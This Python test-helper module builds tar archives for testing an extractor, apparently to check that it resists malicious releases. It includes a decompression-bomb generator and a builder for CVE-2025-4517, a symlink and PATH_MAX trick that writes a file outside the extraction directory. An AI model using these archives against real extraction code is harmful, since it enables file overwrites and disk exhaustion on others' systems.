"""Release archives for tests, malicious ones included: built member by member."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Member:
    name: str
    kind: bytes = tarfile.REGTYPE
    data: bytes = b""
    link: str = ""
    size: int | None = None  # a header that lies about the size
    mode: int = 0o644


def file(name: str, data: bytes = b"x", mode: int = 0o644) -> Member:
    return Member(name, data=data, mode=mode)


def folder(name: str) -> Member:
    return Member(name, tarfile.DIRTYPE, mode=0o755)


def symlink(name: str, target: str) -> Member:
    return Member(name, tarfile.SYMTYPE, link=target)


def hardlink(name: str, target: str) -> Member:
    return Member(name, tarfile.LNKTYPE, link=target)


def tar_bytes(members: Iterable[Member], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt) as tar:
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type, info.linkname, info.mode = m.kind, m.link, m.mode
            info.size = len(m.data) if m.kind == tarfile.REGTYPE else 0
            tar.addfile(info, io.BytesIO(m.data) if m.kind == tarfile.REGTYPE else None)
    return buffer.getvalue()


def write_archive(path: Path, members: Iterable[Member]) -> Path:
    path.write_bytes(gzip.compress(tar_bytes(members), compresslevel=9))
    return path


def zeros_archive(path: Path, name: str, size: int) -> Path:
    """One file of `size` zero bytes, streamed: a tiny archive that expands hugely."""
    with (
        gzip.open(path, "wb", compresslevel=9) as out,
        tarfile.open(fileobj=out, mode="w|", format=tarfile.PAX_FORMAT) as tar,
    ):
        info = tarfile.TarInfo(name)
        info.size = size
        tar.addfile(info, _Zeros(size))
    return path


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def cve_2025_4517(escape_to: str) -> list[Member]:
    """The published technique: nested directories with 247-character names and short
    links to them push `os.path.realpath` past PATH_MAX, where it stops resolving; a link
    through them then climbs out unseen, and a file is written through it. `escape_to`
    is relative to the directory the archive is extracted into (e.g. "../outside")."""
    long = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[Member] = []
    path = ""
    for step in steps:
        members.append(folder(f"{path}{long}"))
        members.append(symlink(f"{path}{step}", long))
        path = f"{path}{long}/"
    deep = "/".join(steps) + "/" + "l" * 254
    members.append(symlink(deep, "../" * len(steps)))
    members.append(symlink("escape", f"{deep}/../{escape_to}"))
    members.append(file("escape/pwned", b"written outside the release directory"))
    return members
